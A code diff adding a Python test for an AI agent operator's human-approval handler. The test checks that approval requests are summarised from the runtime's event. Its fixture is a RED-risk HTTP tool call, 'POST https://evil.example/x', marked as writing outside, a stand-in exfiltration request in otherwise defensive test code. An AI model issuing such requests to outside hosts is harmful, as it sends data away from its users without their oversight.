@@ -83,3 +83,22 @@ def test_the_api_keeps_the_complete_input_for_approvers() -> None:
     execution = {"id": "ex-1", "userId": "u-1", "agentId": "a-1"}
     out = approval_out(approval_doc(execution, approval, None))
     assert out.input == '{"command": "x"}' and out.inputTruncated == approval["inputTruncated"]
+
+
+def test_what_is_approved_comes_from_the_runtimes_event_not_the_termination_message() -> None:
+    from agentry_operator.handlers.approval import requested
+
+    event = {
+        "approvalId": "apr-1",
+        "tool": "http",
+        "risk": "RED",
+        "arguments": "POST https://evil.example/x",
+        "reason": "writes outside",
+    }
+    assert requested(event) == {
+        "id": "apr-1",
+        "tool": "http",
+        "risk": "RED",
+        "summary": "POST https://evil.example/x",
+    }
+    assert requested(None) == {} and requested({"tool": "files"}) == {}  # no event: the message stays
